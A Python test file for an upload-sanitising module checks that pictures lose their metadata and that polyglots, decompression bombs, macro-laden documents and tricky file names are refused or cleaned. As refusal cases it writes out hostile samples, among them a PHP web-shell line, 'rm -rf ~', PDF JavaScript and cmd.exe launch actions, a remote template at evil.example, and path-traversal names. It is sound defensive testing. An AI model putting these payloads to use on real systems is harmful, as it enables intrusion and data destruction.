"""What is taken, what is refused, and what is left of it: told by content alone."""

import io
import zlib

import pytest
from PIL import Image

from tests.people.uploads import given
from zenne.people.uploads import papers, pictures
from zenne.people.uploads.errors import NotTaken, TooBig


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


def test_a_photo_loses_its_place_its_camera_and_its_comment() -> None:
    content = given.photo_with_place()
    assert b"SecretCameraMaker" in content and opened(content).getexif().get_ifd(0x8825)
    drawn = pictures.redraw(content)
    for part in (drawn.content, drawn.thumbnail):
        assert b"Secret" not in part and b"secret" not in part and b"Exif" not in part
        assert not opened(part).getexif() and "comment" not in opened(part).info


def test_a_photo_lying_on_its_side_stands_upright_afterwards() -> None:
    drawn = pictures.redraw(given.photo_with_place(orientation=6))
    assert (drawn.width, drawn.height) == (60, 80) == opened(drawn.content).size


@pytest.mark.parametrize(
    ("kind", "content_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")]
)
def test_each_kind_of_picture_is_drawn_anew_in_its_kind(kind: str, content_type: str) -> None:
    drawn = pictures.redraw(given.picture(kind))
    assert drawn.content_type == content_type and opened(drawn.content).format == kind


@pytest.mark.parametrize(
    ("mode", "kind", "colour"),
    [
        ("CMYK", "JPEG", 0),
        ("L", "PNG", 90),
        ("P", "PNG", 3),
        ("I;16", "PNG", 30_000),
        ("LA", "PNG", (9, 9)),
        ("1", "PNG", 1),
    ],
)
def test_every_way_to_write_colours_becomes_plain_pixels(mode: str, kind: str, colour: object) -> None:
    drawn = pictures.redraw(given.picture(kind, mode=mode, colour=colour))
    assert opened(drawn.content).mode == ("RGBA" if mode == "LA" else "RGB")


def test_transparency_is_kept() -> None:
    drawn = pictures.redraw(given.picture("PNG", mode="RGBA", colour=(255, 0, 0, 0)))
    assert opened(drawn.content).getpixel((5, 5))[3] == 0


def test_a_large_picture_is_made_smaller_and_gets_a_thumbnail() -> None:
    drawn = pictures.redraw(given.picture("JPEG", (6000, 3000)))
    assert (drawn.width, drawn.height) == (2400, 1200)
    assert opened(drawn.thumbnail).size == (640, 320)


def test_a_small_picture_is_not_blown_up() -> None:
    drawn = pictures.redraw(given.picture("PNG", (40, 30)))
    assert opened(drawn.content).size == opened(drawn.thumbnail).size == (40, 30)


def test_a_second_file_behind_a_picture_is_gone() -> None:
    hidden = given.package({"evil.html": given.SCRIPT})
    drawn = pictures.redraw(given.picture("PNG") + given.SCRIPT + hidden)
    assert given.SCRIPT not in drawn.content and b"PK\x03\x04" not in drawn.content


@pytest.mark.parametrize("size", [(50_000, 50_000), (10_000, 9_000), (1_000_000, 31)])
def test_a_picture_with_too_many_pixels_is_refused_before_it_is_unpacked(size: tuple[int, int]) -> None:
    with pytest.raises(TooBig):
        pictures.redraw(given.bomb(*size))


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff" + given.SCRIPT,
        b"\x89PNG\r\n\x1a\n" + given.SCRIPT,
        given.picture("JPEG", (800, 800))[:300],
        given.picture("PNG", (800, 800), mode="RGBA", colour=(1, 2, 3, 4))[:60],
        given.picture("GIF", mode="P", colour=1),
    ],
    ids=["script after JPEG's first bytes", "script after PNG's first bytes", "cut JPEG", "cut PNG", "GIF"],
)
def test_what_only_begins_like_a_picture_is_refused(content: bytes) -> None:
    with pytest.raises(NotTaken):
        pictures.redraw(content)


@pytest.mark.parametrize(
    ("content", "name", "extension"),
    [
        (given.pdf(), "plan.pdf", "pdf"),
        (given.pdf(), "plan.exe", "pdf"),
        (given.docx(), "letter.docx", "docx"),
        (given.xlsx(), "budget.zip", "xlsx"),
        (given.odt(), "letter.odt", "odt"),
        ("Une idée : été\nà Forest".encode(), "idea.txt", "txt"),
        ("Une idée".encode("cp1252"), "idea.txt", "txt"),
        ("Une idée".encode("utf-16"), "idea.txt", "txt"),
        ("rue;âge\nRue Haute;4".encode(), "table.csv", "csv"),
    ],
)
def test_a_document_is_recognised_by_its_content(content: bytes, name: str, extension: str) -> None:
    assert papers.recognise(content, name).extension == extension


SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ACTION = b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
ESCAPED = b"3 0 obj\n<< /S /J#61vaScript >>\nendobj\n"
PACKED = (
    b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
    + zlib.compress(ACTION)
    + b"\nendstream\nendobj\n"
)
TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (SVG, "logo.svg"),
        (SVG, "logo.txt"),
        (SVG.decode().encode("utf-16"), "logo.txt"),
        (b"\xef\xbb\xbf  \n<!DOCTYPE html><body onload=alert(1)>", "page.txt"),
        (b"<?php system($_GET['c']);", "notes.txt"),
        (b"#!/bin/sh\nrm -rf ~", "notes.txt"),
        (b"MZ\x90\x00\x03\x00\x00\x00", "setup.txt"),
        (b"GIF89a/*" + given.SCRIPT, "cute.txt"),
        (b"just words", "words.html"),
        (b"just words", "words"),
        (b" \n ", "empty.txt"),
        (given.pdf(before=given.SCRIPT), "plan.pdf"),
        (given.pdf(after=given.SCRIPT), "plan.pdf"),
        (given.pdf(after=given.package({"a": b"b"})), "plan.pdf"),
        (b"%PDF-1.4\n" + given.SCRIPT + given.pdf()[9:], "plan.pdf"),
        (b"%PDF-1.4 nothing more", "plan.pdf"),
        (given.pdf(ACTION), "plan.pdf"),
        (given.pdf(ESCAPED), "plan.pdf"),
        (given.pdf(PACKED), "plan.pdf"),
        (given.pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "plan.pdf"),
        (given.docx(**{"word__vbaProject.bin": b"macro"}), "letter.docx"),
        (given.docx(**{"word___rels__settings.xml.rels": TEMPLATE}), "letter.docx"),
        (given.odt(**{"Basic__Standard__Module1.xml": b"<script:module/>"}), "letter.odt"),
        (given.docx() + given.SCRIPT, "letter.docx"),
        (b"PK\x03\x04" + given.docx(), "letter.docx"),
        (given.package({"evil.html": given.SCRIPT}), "letter.docx"),
        (given.package({"../../etc/passwd": b"x", "[Content_Types].xml": b"x"}), "letter.docx"),
        (
            given.package({"mimetype": b"application/vnd.oasis.opendocument.text-master", "content.xml": b"x"}),
            "letter.odt",
        ),
        (given.docx(**{f"word__{n}": bytes(60_000_000) for n in range(4)}), "bomb.docx"),
    ],
)
def test_what_could_act_by_itself_or_is_two_things_is_refused(content: bytes, name: str) -> None:
    with pytest.raises(NotTaken):
        papers.recognise(content, name)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\me\\plan.docx", "plan.pdf"),
        ("photo\u202egnp.exe", "photognp.pdf"),
        ("<script>.pdf", "script.pdf"),
        ("  Été   à Forest .pdf", "Été à Forest.pdf"),
        ("v1.2 of the plan", "v1.2 of the plan.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("", "file.pdf"),
        ("é" * 300 + ".pdf", "é" * 96 + ".pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
    ],
)
def test_a_name_is_kept_without_its_tricks_and_with_its_true_ending(name: str, shown: str) -> None:
    assert papers.plain_name(name, "pdf", 100) == shown
